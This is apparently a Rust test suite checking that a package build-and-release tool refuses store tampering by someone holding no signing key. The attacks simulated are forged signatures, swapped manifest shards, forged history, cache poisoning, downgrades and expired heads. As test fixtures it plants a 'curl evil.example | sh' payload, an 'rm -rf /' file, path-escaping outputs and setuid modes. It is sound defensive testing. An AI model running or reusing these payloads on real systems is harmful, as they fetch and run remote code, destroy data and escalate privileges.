//! Someone who can write the store but holds no key (issue 12): whatever
//! they plant, `pipe promote`, `pipe rollback` and `pipe refresh` sign
//! nothing they did not verify, stop with exit 3, and leave every object of
//! the store as it was. Each case runs on the local store and on S3.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use pipe_e2e::attacker::{
    Bucket, assert_unchanged, attacker_key, envelope, plant_blob, project_on, second_checkout,
};
use pipe_e2e::cli::{Project, Run};
use pipe_e2e::fixture::Demo;

/// The demo project: dev, then prod; package `demo` as a .deb.
static PIPELINE: LazyLock<String> = LazyLock::new(|| {
    Demo::new()
        .env("prod", Some("dev"))
        .formats(&["deb"])
        .pipeline_toml()
});

const RECORDS: [&str; 4] = [
    "manifest.json",
    "manifest.json.asc",
    "provenance.json",
    "provenance.json.asc",
];

/// The key of the manifest shard of `manifest` (JSON bytes) that holds its
/// packages (not the steps' inputs), as the store and a build directory
/// have it.
fn package_shard(manifest: &[u8]) -> String {
    let m: serde_json::Value = serde_json::from_slice(manifest).unwrap();
    let shard = m["shards"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["bucket"] != "steps")
        .unwrap();
    let b3 = shard["blob"]["blake3"].as_str().unwrap();
    format!("manifests/{}/{b3}.json", &b3[..2])
}

fn release(p: &Project, version: &str) -> String {
    p.write("demo.txt", &format!("{version}\n"));
    p.release(version)
}

/// An attacker's own build of `demo` 1.0.0 (other bytes, their own key):
/// the build directory.
fn evil_build() -> (Project, std::path::PathBuf) {
    let evil = Demo::new()
        .env("prod", Some("dev"))
        .formats(&["deb"])
        .file("demo.txt", "rm -rf /\n")
        .create();
    let id = evil.pipe(&["--json", "build"]).expect_code(0).json()["build"]
        .as_str()
        .unwrap()
        .to_string();
    let dir = evil.path().join(".pipe/builds").join(id);
    (evil, dir)
}

/// Puts the store back as `orig` (the objects an attack changed or added).
fn restore(bucket: &Bucket, orig: &BTreeMap<String, Vec<u8>>) {
    let now = bucket.snapshot();
    for (k, v) in &now {
        match orig.get(k) {
            None => bucket.delete(k),
            Some(o) if o != v => bucket.write(k, o),
            _ => {}
        }
    }
    for (k, v) in orig {
        if !now.contains_key(k) {
            bucket.write(k, v);
        }
    }
}

/// Runs `args` against the attacked store: exit 3, the message contains
/// `says`, and no object changed.
#[track_caller]
fn refused(p: &Project, bucket: &Bucket, args: &[&str], says: &str) -> Run {
    let before = bucket.snapshot();
    let out = p.pipe(args);
    out.expect_code(3);
    assert!(
        out.stderr.contains(says),
        "`pipe {}` should say {says:?}:\n{}",
        args.join(" "),
        out.stderr
    );
    assert_unchanged(&before, &bucket.snapshot());
    out
}

/// The attack of issue 12, then its variants: the records of the build a
/// rollback goes back to are replaced (with an attacker's signed build
/// naming an evil .deb uploaded to the pool, with an unsigned edit, with
/// another build's genuine records, with an index alone), or the history is
/// forged. Rollback, promote and refresh refuse each with exit 3 and change
/// nothing; once the store is restored, the same rollback works.
fn nothing_unsigned_is_signed(s3: bool) {
    let (p, bucket, _server) = project_on(s3, &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    p.pipe(&["promote", &b1, "--to", "prod"]).expect_code(0);
    let b2 = release(&p, "1.1.0");
    p.pipe(&["promote", &b2, "--to", "dev"]).expect_code(0);
    p.pipe(&["promote", &b2, "--to", "prod"]).expect_code(0);
    let orig = bucket.snapshot();
    let (_evil, evil_dir) = evil_build();
    let deb = "demo_1.0.0_all.deb";
    let pool = format!("pool/main/d/demo/{deb}");
    let rec = |b: &str, f: &str| format!("builds/{b}/{f}");

    // 1. The attacker's build, signed by the attacker's key, under b1's
    // name, and the evil .deb in the pool where b1's was.
    bucket.write(&pool, &std::fs::read(evil_dir.join(deb)).unwrap());
    for f in RECORDS {
        bucket.write(&rec(&b1, f), &std::fs::read(evil_dir.join(f)).unwrap());
    }
    let evil_shard = package_shard(&std::fs::read(evil_dir.join("manifest.json")).unwrap());
    bucket.write(
        &evil_shard,
        &std::fs::read(evil_dir.join(&evil_shard)).unwrap(),
    );
    refused(&p, &bucket, &["rollback", "--env", "prod"], "signature");
    refused(&p, &bucket, &["promote", &b1, "--to", "dev"], "signature");
    restore(&bucket, &orig);

    // 2. The attacker's manifest and shard, edited to name b1, under b1's
    // own (genuine) signatures.
    let mut m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(evil_dir.join("manifest.json")).unwrap()).unwrap();
    m["build"] = b1.clone().into();
    bucket.write(&pool, &std::fs::read(evil_dir.join(deb)).unwrap());
    bucket.write(
        &rec(&b1, "manifest.json"),
        &serde_json::to_vec_pretty(&m).unwrap(),
    );
    bucket.write(
        &evil_shard,
        &std::fs::read(evil_dir.join(&evil_shard)).unwrap(),
    );
    refused(&p, &bucket, &["rollback", "--env", "prod"], "signature");
    restore(&bucket, &orig);

    // 3. b2's genuine, signed records under b1's name: signed by the
    // project key, but not build b1.
    for f in RECORDS {
        bucket.write(&rec(&b1, f), &bucket.read(&rec(&b2, f)).unwrap());
    }
    refused(
        &p,
        &bucket,
        &["rollback", "--env", "prod"],
        &format!("for build `{b2}`, not `{b1}`"),
    );
    restore(&bucket, &orig);

    // 4. Only a manifest shard (what the views render from): under b1's
    // shard key, the stanza naming the evil .deb with the digests the
    // attacker's build recorded for it; then b2's genuine shard swapped in.
    // Run from another checkout: the project that built b1 and b2 has
    // their genuine shards and does not read the store's
    // (`local_shard_copies_are_used_only_with_their_digest`).
    let first = p;
    let p = second_checkout(
        &first,
        _server.as_ref(),
        &PIPELINE,
        &[("demo.txt", "1.1.0\n")],
    );
    let b1_shard = package_shard(&bucket.read(&rec(&b1, "manifest.json")).unwrap());
    let b2_shard = package_shard(&bucket.read(&rec(&b2, "manifest.json")).unwrap());
    assert_ne!(b1_shard, b2_shard);
    let mut shard: serde_json::Value =
        serde_json::from_slice(&bucket.read(&b1_shard).unwrap()).unwrap();
    let evil: serde_json::Value =
        serde_json::from_slice(&std::fs::read(evil_dir.join(&evil_shard)).unwrap()).unwrap();
    shard["index"][0]["stanza"] = evil["index"][0]["stanza"].clone();
    let forged_shard = serde_json::to_vec(&shard).unwrap();
    bucket.write(&pool, &std::fs::read(evil_dir.join(deb)).unwrap());
    bucket.write(&b1_shard, &forged_shard);
    let out = refused(
        &p,
        &bucket,
        &["rollback", "--env", "prod"],
        "the shard was changed or swapped",
    );
    assert!(out.stderr.contains(&b1_shard), "{}", out.stderr);
    refused(
        &p,
        &bucket,
        &["promote", &b1, "--to", "dev"],
        "the shard was changed or swapped",
    );
    restore(&bucket, &orig);
    bucket.write(&b1_shard, &bucket.read(&b2_shard).unwrap());
    refused(
        &p,
        &bucket,
        &["rollback", "--env", "prod"],
        "the shard was changed or swapped",
    );
    restore(&bucket, &orig);
    // The same for the build prod points at now: refresh re-signs nothing.
    bucket.write(&b2_shard, &forged_shard);
    refused(
        &p,
        &bucket,
        &["refresh"],
        "the shard was changed or swapped",
    );
    // Nor does `pipe verify` of the published build pass it.
    let store_url = match &_server {
        Some(server) => format!("s3://{}/store", server.bucket()),
        None => first.path().join(".pipe/store").display().to_string(),
    };
    let ring = p.keyring();
    refused(
        &p,
        &bucket,
        &["verify", &b2, "--keyring", &ring, "--store", &store_url],
        "the shard was changed or swapped",
    );
    restore(&bucket, &orig);
    // A shard larger than any the manifest may name is not read past the cap.
    bucket.write(&b2_shard, &vec![b' '; (16 << 20) + 1]);
    refused(
        &p,
        &bucket,
        &["refresh"],
        "more than the 16777216 bytes pipe reads",
    );
    restore(&bucket, &orig);

    // 5. A forged history: an unsigned entry 3 in prod pointing back at b1
    // (what rollback reads to choose its target), pointer included.
    let head: serde_json::Value =
        serde_json::from_slice(&bucket.read("envs/prod/pointer.json").unwrap()).unwrap();
    let mut forged = head.clone();
    forged["entry"]["seq"] = 3.into();
    forged["entry"]["build"] = b1.clone().into();
    let forged = serde_json::to_vec_pretty(&forged).unwrap();
    bucket.write("envs/prod/history/00000003.json", &forged);
    bucket.write("envs/prod/pointer.json", &forged);
    refused(
        &p,
        &bucket,
        &["rollback", "--env", "prod"],
        "history of `prod`",
    );
    refused(
        &p,
        &bucket,
        &["refresh", "--env", "prod"],
        "history of `prod`",
    );
    refused(
        &p,
        &bucket,
        &["promote", &b1, "--to", "prod"],
        "history of `prod`",
    );
    // dev's history is what allows a build into prod.
    restore(&bucket, &orig);
    bucket.write("envs/dev/pointer.json", &forged);
    refused(
        &p,
        &bucket,
        &["promote", &b1, "--to", "prod"],
        "history of `dev`",
    );
    restore(&bucket, &orig);

    // Restored, the rollback goes through and lists b1's own .deb.
    let p = first;
    assert_unchanged(&orig, &bucket.snapshot());
    let out = p.pipe(&["--json", "rollback", "--env", "prod"]);
    out.expect_code(0);
    assert_eq!(out.json()["entry"]["build"], b1.as_str());
    let packages = bucket
        .read("dists/prod/main/binary-amd64/Packages")
        .unwrap();
    let sha = pipe_e2e::consumers::sha256_hex(&bucket.read(&pool).unwrap());
    assert!(
        String::from_utf8_lossy(&packages).contains(&sha),
        "the rollback lists b1's .deb"
    );
}

#[test]
fn nothing_unsigned_is_signed_on_a_local_store() {
    nothing_unsigned_is_signed(false);
}

#[test]
fn nothing_unsigned_is_signed_on_s3() {
    nothing_unsigned_is_signed(true);
}

/// Promote, rollback and refresh take a manifest shard from this machine
/// (the build's own directory, `.pipe/shards`) instead of the store: a
/// local copy whose bytes are not the digest its name says is not used (the
/// store's is read and checked as always), and a genuine local copy makes
/// the store's copy irrelevant (its bytes are never read, so a forged one
/// cannot get in; `pipe verify --store` still finds it).
fn local_shard_copies_are_used_only_with_their_digest(s3: bool) {
    let (p, bucket, server) = project_on(s3, &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    let (_evil, evil_dir) = evil_build();
    let deb = "demo_1.0.0_all.deb";
    let genuine = pipe_e2e::consumers::sha256_hex(
        &std::fs::read(p.path().join(".pipe/builds").join(&b1).join(deb)).unwrap(),
    );
    let evil_sha = pipe_e2e::consumers::sha256_hex(&std::fs::read(evil_dir.join(deb)).unwrap());
    assert_ne!(genuine, evil_sha);
    let listed = || {
        String::from_utf8_lossy(&bucket.read("dists/dev/main/binary-amd64/Packages").unwrap())
            .into_owned()
    };
    let name = package_shard(&bucket.read(&format!("builds/{b1}/manifest.json")).unwrap());
    let genuine_shard = bucket.read(&name).unwrap();
    let mut shard: serde_json::Value = serde_json::from_slice(&genuine_shard).unwrap();
    let evil: serde_json::Value = serde_json::from_slice(
        &std::fs::read(evil_dir.join(package_shard(
            &std::fs::read(evil_dir.join("manifest.json")).unwrap(),
        )))
        .unwrap(),
    )
    .unwrap();
    shard["index"][0]["stanza"] = evil["index"][0]["stanza"].clone();
    let forged = serde_json::to_vec(&shard).unwrap();

    // The local copies forged (the build's and the cache's): not used, the
    // store's genuine shard is, and the suite lists b1's own .deb.
    let in_build = p.path().join(".pipe/builds").join(&b1).join(&name);
    let in_cache = p.path().join(".pipe/shards").join(&name);
    std::fs::create_dir_all(in_cache.parent().unwrap()).unwrap();
    for path in [&in_build, &in_cache] {
        std::fs::write(path, &forged).unwrap();
    }
    p.pipe(&["refresh", "--env", "dev"]).expect_code(0);
    let text = listed();
    assert!(
        text.contains(&genuine) && !text.contains(&evil_sha),
        "{text}"
    );
    // The verified shard read from the store is what the cache keeps now.
    assert_eq!(std::fs::read(&in_cache).unwrap(), genuine_shard);

    // The genuine local copy, a forged one in the store: the store's is not
    // read; what is signed is b1's. A machine without the shard refuses.
    std::fs::write(&in_build, &genuine_shard).unwrap();
    bucket.write(&name, &forged);
    p.pipe(&["refresh", "--env", "dev"]).expect_code(0);
    let text = listed();
    assert!(
        text.contains(&genuine) && !text.contains(&evil_sha),
        "{text}"
    );
    let other = second_checkout(&p, server.as_ref(), &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    refused(
        &other,
        &bucket,
        &["refresh", "--env", "dev"],
        "the shard was changed or swapped",
    );
    let store_url = match &server {
        Some(server) => format!("s3://{}/store", server.bucket()),
        None => p.path().join(".pipe/store").display().to_string(),
    };
    let ring = p.keyring();
    refused(
        &p,
        &bucket,
        &["verify", &b1, "--keyring", &ring, "--store", &store_url],
        "the shard was changed or swapped",
    );
}

#[test]
fn local_shard_copies_are_used_only_with_their_digest_on_a_local_store() {
    local_shard_copies_are_used_only_with_their_digest(false);
}

#[test]
fn local_shard_copies_are_used_only_with_their_digest_on_s3() {
    local_shard_copies_are_used_only_with_their_digest(true);
}

const STEPS: &str = r#"[project]
name = "demo"
version = "1.0.0"
source_date_epoch = 1700000000

[steps.a]
run = "mkdir -p out-a && echo a > out-a/a.txt"
inputs = ["src/in.txt"]
outputs = ["out-a/"]

[steps.b]
run = "mkdir -p out-b && echo b > out-b/b.txt"
inputs = ["src/in.txt"]
outputs = ["out-b/"]

[steps.c]
run = "mkdir -p out-c && echo c > out-c/c.txt"
inputs = ["src/in.txt"]
outputs = ["out-c/"]

[packages.demo]
summary = "Demo"
arch = "all"
maintainer = "Ops <ops@example.com>"
formats = ["deb"]
files = [
  { src = "out-a/a.txt", dst = "/usr/share/demo/a.txt" },
  { src = "out-b/b.txt", dst = "/usr/share/demo/b.txt" },
  { src = "out-c/c.txt", dst = "/usr/share/demo/c.txt" },
]
"#;

/// The record under each cache key of the store, by step name (`step a`)
/// or `stage`, from the envelopes pipe wrote.
fn cache_records(bucket: &Bucket) -> BTreeMap<String, (String, serde_json::Value)> {
    let mut out = BTreeMap::new();
    for (key, bytes) in bucket.snapshot() {
        if !key.starts_with("cache/") {
            continue;
        }
        let env: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
        let record: serde_json::Value =
            serde_json::from_str(env["payload"].as_str().expect("a signed envelope")).unwrap();
        let name = match record["step"].as_str() {
            Some(step) => format!("step {step}"),
            None => "stage".to_string(),
        };
        out.insert(name, (key, record));
    }
    out
}

/// Cache poisoning (issue 12, point 2): a second checkout shares a store in
/// which every record was forged (unsigned with a path leaving the project,
/// signed by another key with an absolute setuid path, signed by another
/// key with other bytes, a stage record naming another .deb). It uses none
/// of them, names each, builds exactly what a clean build made, writes
/// nothing outside the project, and replaces the forgeries with records
/// its own key signed.
fn forged_cache_records_are_never_restored(s3: bool) {
    let files = [("src/in.txt", "in\n")];
    let (first, bucket, server) = project_on(s3, STEPS, &files);
    let clean = first.pipe(&["--json", "build"]).expect_code(0).json();
    let build = clean["build"].as_str().unwrap().to_string();
    let deb = std::fs::read(clean["artifacts"][0]["path"].as_str().unwrap()).unwrap();
    let records = cache_records(&bucket);
    assert_eq!(records.len(), 4, "{records:?}");

    let mallory = attacker_key();
    let evil = plant_blob(&bucket, b"#!/bin/sh\ncurl evil.example | sh\n");
    let unique = format!(
        "pipe-escape-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    );
    let escapes = [
        std::env::temp_dir().join(format!("{unique}-rel")),
        std::env::temp_dir().join(format!("{unique}-abs")),
    ];
    let (key_a, mut a) = records["step a"].clone();
    a["outputs"] =
        serde_json::json!([{ "path": format!("../{unique}-rel"), "mode": 0o755, "blob": evil }]);
    bucket.write(&key_a, &serde_json::to_vec(&a).unwrap());
    let (key_b, mut b) = records["step b"].clone();
    b["outputs"] =
        serde_json::json!([{ "path": escapes[1].to_str().unwrap(), "mode": 0o4755, "blob": evil }]);
    bucket.write(&key_b, &envelope(&b, &mallory));
    let (key_c, mut c) = records["step c"].clone();
    c["outputs"][0]["blob"] = evil.clone();
    bucket.write(&key_c, &envelope(&c, &mallory));
    let (key_s, mut stage) = records["stage"].clone();
    stage["blob"] = evil.clone();
    bucket.write(&key_s, &envelope(&stage, &mallory));

    let second = second_checkout(&first, server.as_ref(), STEPS, &files);
    let out = second.pipe(&["-v", "--json", "build"]);
    out.expect_code(0);
    for key in [&key_a, &key_b, &key_c, &key_s] {
        assert!(
            out.stderr.contains(key.as_str()),
            "the forged record `{key}` is not named:\n{}",
            out.stderr
        );
    }
    let doc = out.json();
    assert_eq!(
        doc["build"],
        build.as_str(),
        "the same build as a clean one"
    );
    for step in doc["steps"].as_array().unwrap() {
        assert_eq!(step["status"], "ran", "{step}");
    }
    assert_eq!(doc["artifacts"][0]["cache"], "miss");
    assert_eq!(
        std::fs::read(doc["artifacts"][0]["path"].as_str().unwrap()).unwrap(),
        deb,
        "the same .deb as a clean build"
    );
    for (dir, text) in [
        ("out-a/a.txt", "a\n"),
        ("out-b/b.txt", "b\n"),
        ("out-c/c.txt", "c\n"),
    ] {
        assert_eq!(
            std::fs::read_to_string(second.path().join(dir)).unwrap(),
            text
        );
    }
    for path in &escapes {
        assert!(!path.exists(), "{} was written", path.display());
    }

    // The forgeries were replaced: a third checkout restores everything,
    // with no warning.
    let third = second_checkout(&first, server.as_ref(), STEPS, &files);
    let out = third.pipe(&["--json", "build"]);
    out.expect_code(0);
    assert!(!out.stderr.contains("ignoring"), "{}", out.stderr);
    let doc = out.json();
    assert_eq!(doc["build"], build.as_str());
    assert_eq!(doc["artifacts"][0]["cache"], "hit");
    for step in doc["steps"].as_array().unwrap() {
        assert_eq!(step["status"], "restored", "{step}");
    }
}

#[test]
fn forged_cache_records_are_never_restored_from_a_local_store() {
    forged_cache_records_are_never_restored(false);
}

#[test]
fn forged_cache_records_are_never_restored_from_s3() {
    forged_cache_records_are_never_restored(true);
}

/// The build `current` points at in `target`.
fn current(target: &std::path::Path) -> Option<String> {
    std::fs::read_link(target.join("current"))
        .ok()
        .and_then(|t| t.file_name().map(|n| n.to_string_lossy().into_owned()))
}

fn deploy(p: &Project, target: &std::path::Path, ring: &str, extra: &[&str]) -> Run {
    let mut args = vec![
        "deploy",
        "--env",
        "dev",
        "--target",
        target.to_str().unwrap(),
        "--keyring",
        ring,
    ];
    args.extend_from_slice(extra);
    p.pipe(&args)
}

/// `args` refused with exit 3 saying `says`; neither the store nor the
/// target's `current` changed.
#[track_caller]
fn deploy_refused(p: &Project, bucket: &Bucket, target: &std::path::Path, ring: &str, says: &str) {
    let before = bucket.snapshot();
    let was = current(target);
    let out = deploy(p, target, ring, &[]);
    out.expect_code(3);
    assert!(
        out.stderr.contains(says),
        "should say {says:?}:\n{}",
        out.stderr
    );
    assert_eq!(current(target), was, "`current` moved");
    assert_unchanged(&before, &bucket.snapshot());
}

/// Rollback protection (issue 12, point 3): a target remembers the newest
/// head it verified. A store serving an older head with a truncated history
/// (and the freshness statement that vouched for it then), or another
/// history signed by the same key (copied from a second store), is refused
/// with exit 3 unless `--allow-downgrade`; `pipe rollback`, a new and
/// higher entry, deploys normally.
fn deploy_refuses_older_or_foreign_heads(s3: bool) {
    let (p, bucket, server) = project_on(s3, &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    let ring = p.keyring();
    let target = tempfile::tempdir().unwrap();
    let t = target.path();
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    let fresh1 = bucket.read("envs/dev/timestamp.json").unwrap();
    let b2 = release(&p, "1.1.0");
    p.pipe(&["promote", &b2, "--to", "dev"]).expect_code(0);
    deploy(&p, t, &ring, &[]).expect_code(0);
    assert_eq!(current(t).as_deref(), Some(b2.as_str()));
    let orig = bucket.snapshot();

    // An older head: entry 1 as the pointer, entry 2 gone, entry 1's
    // freshness statement replayed. Every signature is genuine.
    bucket.write(
        "envs/dev/pointer.json",
        &bucket.read("envs/dev/history/00000001.json").unwrap(),
    );
    bucket.delete("envs/dev/history/00000002.json");
    bucket.write("envs/dev/timestamp.json", &fresh1);
    deploy_refused(&p, &bucket, t, &ring, "older than entry 2");
    let out = deploy(&p, t, &ring, &["--allow-downgrade"]);
    out.expect_code(0);
    assert_eq!(current(t).as_deref(), Some(b1.as_str()));
    // Restored, the store's history extends what the target now
    // remembers (entry 1): it deploys.
    restore(&bucket, &orig);
    deploy(&p, t, &ring, &[]).expect_code(0);
    assert_eq!(current(t).as_deref(), Some(b2.as_str()));

    // Another history signed by the same key: a second store where dev
    // went through b1 and b2 too, copied over this one's.
    let (other_url, other) = match &server {
        Some(server) => (
            format!("s3://{}/other", server.bucket()),
            Bucket::S3 {
                client: server.client(),
                bucket: server.bucket().to_string(),
                prefix: "other".into(),
            },
        ),
        None => {
            let dir = p.path().join("other-store");
            (dir.to_str().unwrap().to_string(), Bucket::Local(dir))
        }
    };
    for b in [&b1, &b2] {
        p.pipe(&["--store", &other_url, "publish", b])
            .expect_code(0);
        p.pipe(&["--store", &other_url, "promote", b, "--to", "dev"])
            .expect_code(0);
    }
    for (key, bytes) in other.snapshot() {
        if key.starts_with("envs/dev/") {
            bucket.write(&key, &bytes);
        }
    }
    deploy_refused(&p, &bucket, t, &ring, "does not extend the entry 2");
    deploy(&p, t, &ring, &["--allow-downgrade"]).expect_code(0);
    restore(&bucket, &orig);
    // The target now remembers the other store's entry 2: this store's
    // history is the foreign one for it, until accepted explicitly.
    deploy_refused(&p, &bucket, t, &ring, "does not extend the entry 2");
    deploy(&p, t, &ring, &["--allow-downgrade"]).expect_code(0);

    // A rollback is a new entry: it deploys without any flag.
    p.pipe(&["rollback", "--env", "dev"]).expect_code(0);
    deploy(&p, t, &ring, &[]).expect_code(0);
    assert_eq!(current(t).as_deref(), Some(b1.as_str()));
}

#[test]
fn deploy_refuses_older_or_foreign_heads_from_a_local_store() {
    deploy_refuses_older_or_foreign_heads(false);
}

#[test]
fn deploy_refuses_older_or_foreign_heads_from_s3() {
    deploy_refuses_older_or_foreign_heads(true);
}

/// Freeze protection (issue 12, point 3): a head is vouched for by a
/// signed freshness statement that expires (`[repository] head_valid_for`).
/// A store that keeps serving it past then is refused with exit 3 unless
/// `--allow-expired`; so is a statement edited to last longer, or missing;
/// `pipe refresh` renews it.
fn deploy_refuses_expired_heads(s3: bool) {
    let toml = PIPELINE.replace(
        "[environments.dev]",
        "[repository]\nhead_valid_for = \"6s\"\n\n[environments.dev]",
    );
    let (p, bucket, _server) = project_on(s3, &toml, &[("demo.txt", "1.0.0\n")]);
    let ring = p.keyring();
    let target = tempfile::tempdir().unwrap();
    let t = target.path();
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    deploy(&p, t, &ring, &[]).expect_code(0);
    let fresh: serde_json::Value =
        serde_json::from_slice(&bucket.read("envs/dev/timestamp.json").unwrap()).unwrap();
    let expires = fresh["freshness"]["expires"].as_u64().unwrap();
    while std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        <= expires
    {
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    deploy_refused(&p, &bucket, t, &ring, "expired at");
    deploy(&p, t, &ring, &["--allow-expired"]).expect_code(0);
    let orig = bucket.snapshot();

    // Edited to last a year longer: the signature no longer covers it.
    let mut forged = fresh.clone();
    forged["freshness"]["expires"] = (expires + 365 * 86_400).into();
    bucket.write(
        "envs/dev/timestamp.json",
        &serde_json::to_vec(&forged).unwrap(),
    );
    deploy_refused(&p, &bucket, t, &ring, "signature");
    // Missing.
    bucket.delete("envs/dev/timestamp.json");
    deploy_refused(&p, &bucket, t, &ring, "missing");
    restore(&bucket, &orig);

    // Renewed by refresh: deploys without a flag.
    p.pipe(&["refresh", "--env", "dev"]).expect_code(0);
    deploy(&p, t, &ring, &["--reset"]).expect_code(0);
    assert_eq!(current(t).as_deref(), Some(b1.as_str()));
}

#[test]
fn deploy_refuses_expired_heads_from_a_local_store() {
    deploy_refuses_expired_heads(false);
}

#[test]
fn deploy_refuses_expired_heads_from_s3() {
    deploy_refuses_expired_heads(true);
}

/// Bounded input (issue 12, point 5): a timestamp past what an rpm can
/// carry and a validity that would overflow a date are positioned
/// configuration errors (exit 2), from `pipeline.toml` or the environment,
/// not a panic at build or promote time.
#[test]
fn out_of_range_times_are_positioned_errors() {
    let p = Project::new();
    p.write("demo.txt", "x\n");
    p.write(
        "pipeline.toml",
        &PIPELINE
            .replace("source_date_epoch = 1700000000", "source_date_epoch = 99999999999")
            .replace(
                "[environments.dev]",
                "[repository]\nvalid_for = \"99999999999999d\"\nhead_valid_for = \"101y\"\n\n[environments.dev]",
            ),
    );
    let out = p.pipe(&["validate"]);
    out.expect_code(2);
    for says in [
        "pipeline.toml:4:",
        "2106",
        "pipeline.toml:7:",
        "pipeline.toml:8:",
        "too long",
    ] {
        assert!(
            out.stderr.contains(says),
            "{says:?} not in:\n{}",
            out.stderr
        );
    }

    let mut p = Project::new();
    p.write("demo.txt", "x\n");
    p.write(
        "pipeline.toml",
        &PIPELINE.replace("source_date_epoch = 1700000000\n", ""),
    );
    p.with_signing_key();
    p.env("SOURCE_DATE_EPOCH", "18446744073709551615");
    let out = p.pipe(&["build"]);
    out.expect_code(2);
    assert!(out.stderr.contains("2106"), "{}", out.stderr);
}

/// A variable that is not UTF-8 in deploy's environment is no template
/// value, and no panic.
#[test]
fn a_non_utf8_environment_variable_does_not_stop_a_deploy() {
    use std::os::unix::ffi::OsStrExt;
    let (p, _bucket, _server) = project_on(false, &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    let ring = p.keyring();
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    let target = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(pipe_e2e::cli::pipe_bin())
        .arg("-C")
        .arg(p.path())
        .args(["deploy", "--env", "dev", "--keyring", &ring, "--target"])
        .arg(target.path())
        .env("PIPE_VAR_broken", std::ffi::OsStr::from_bytes(b"\xff\xfe"))
        .env_remove("PIPE_STORE")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(current(target.path()).as_deref(), Some(b1.as_str()));
}

/// Revocation in the same second (issue 12, point 7): a promotion and a
/// `pipe keys rotate --retire` right after it leave a history whose
/// signatures verify with the new keyring, and a deploy that accepts it.
#[test]
fn a_key_retired_in_the_second_of_a_promotion_still_vouches_for_it() {
    let (p, _bucket, _server) = project_on(false, &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    let b1 = release(&p, "1.0.0");
    let promoted = p.pipe(&["--json", "promote", &b1, "--to", "dev"]);
    promoted.expect_code(0);
    p.pipe(&["keys", "rotate", "--retire"]).expect_code(0);
    let at = promoted.json()["entry"]["at"].as_str().unwrap().to_string();
    let ring = p.keyring();
    p.pipe(&["history", "dev", "--keyring", &ring])
        .expect_code(0);
    // The revocation is dated after the rotation's second: once it is in
    // force, it still does not reach back to the promotion.
    std::thread::sleep(std::time::Duration::from_millis(2100));
    let list = p.pipe(&["--json", "keys", "list"]).expect_code(0).json();
    let revoked_at = list["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|k| k["revoked"]["at"].as_str().map(str::to_string))
        .expect("the old key is retired");
    assert!(revoked_at > at, "revoked {revoked_at}, promoted {at}");
    p.pipe(&["history", "dev", "--keyring", &ring])
        .expect_code(0);
    let target = tempfile::tempdir().unwrap();
    deploy(&p, target.path(), &ring, &[]).expect_code(0);
}

/// Setuid, setgid and world-writable modes (issue 12, point 7): refused at
/// validate, positioned, unless the package says `allow_special_modes =
/// true`; deploy follows the same rule from the operator's pipeline.toml.
#[test]
fn special_modes_need_the_package_to_say_so() {
    let files = [("demo.txt", "1.0.0\n"), ("su.sh", "#!/bin/sh\n")];
    let special = PIPELINE.replace(
        "files = [{ src = \"demo.txt\", dst = \"/usr/share/demo/demo.txt\" }]",
        "files = [\n  { src = \"demo.txt\", dst = \"/usr/share/demo/demo.txt\" },\n  { src = \"su.sh\", dst = \"/usr/bin/demo-su\", mode = \"4755\" },\n  { src = \"su.sh\", dst = \"/usr/bin/demo-sg\", mode = \"2755\" },\n  { src = \"su.sh\", dst = \"/var/demo-drop\", mode = \"0666\" },\n]",
    );
    let (p, _bucket, _server) = project_on(false, &PIPELINE, &files);
    p.write("pipeline.toml", &special);
    let out = p.pipe(&["validate"]);
    out.expect_code(2);
    // Each error is positioned at its mode (line of the entry, column 53
    // or 51).
    let at = |entry: &str, column: usize| {
        let line = special.lines().position(|l| l.contains(entry)).unwrap() + 1;
        format!("pipeline.toml:{line}:{column}")
    };
    for says in [
        at("demo-su", 53),
        "sets the setuid bit".into(),
        at("demo-sg", 53),
        "sets the setgid bit".into(),
        at("demo-drop", 51),
        "sets the world-writable bit".into(),
        "allow_special_modes = true".into(),
    ] {
        assert!(
            out.stderr.contains(&says),
            "{says:?} not in:\n{}",
            out.stderr
        );
    }
    p.pipe(&["build"]).expect_code(2);

    let allowed = special.replace(
        "formats = [\"deb\"]",
        "formats = [\"deb\"]\nallow_special_modes = true",
    );
    p.write("pipeline.toml", &allowed);
    p.pipe(&["validate"]).expect_code(0);
    let ring = p.keyring();
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    // The signed manifest records the permission, and deploy follows it
    // (a package without it has such entries refused: deploy.rs,
    // `hostile_archives_are_refused_naming_the_entry`).
    let manifest: serde_json::Value = serde_json::from_slice(
        &std::fs::read(
            p.path()
                .join(".pipe/builds")
                .join(&b1)
                .join("manifest.json"),
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(
        manifest["deploy"]["special_modes"],
        serde_json::json!(["demo"])
    );
    let operator = tempfile::tempdir().unwrap();
    // The modes are kept.
    deploy(&p, operator.path(), &ring, &[]).expect_code(0);
    use std::os::unix::fs::PermissionsExt;
    let mode = |rel: &str| {
        std::fs::metadata(operator.path().join("current").join(rel))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("usr/bin/demo-su"), 0o4755);
